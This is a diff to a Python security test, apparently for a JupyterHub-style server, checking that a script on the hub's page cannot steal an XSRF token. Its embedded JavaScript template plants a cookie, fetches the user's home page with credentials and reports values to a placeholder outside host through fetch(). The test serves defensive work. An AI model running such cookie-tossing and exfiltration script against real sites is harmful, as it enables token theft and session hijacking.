@@ -146,7 +146,7 @@ def test_a_script_in_the_hubs_page_steals_no_token(
 
 AS_THE_USER = """(async () => {{
     const tell = (name, value) => fetch("{place}/?" + name + "=" + value, {{mode: "no-cors"}});
-    try {{ document.cookie = "_xsrf=tossed; path=/hub/"; }}
+    try {{ document.cookie = "_xsrf=tossed; path=/hub/spawn"; }}
     catch (error) {{ await tell("refused", error.name); }}
     try {{
         const home = await (await fetch("{url}/hub/home", {{credentials: "include"}})).text();
@@ -154,7 +154,11 @@ AS_THE_USER = """(async () => {{
         await {steal};
     }} finally {{ await tell("done", 1); }}
 }})()"""
-"""Does as the hub's own page does, from a page of the same origin."""
+"""Does as the hub's own page does, from a page of the same origin.
+
+What it plants is not for the paths that it asks itself: without the hub's own cookie there the token is a new one each
+second.
+"""
 
 
 def as_the_user(elsewhere: Elsewhere, of: Insider) -> str:
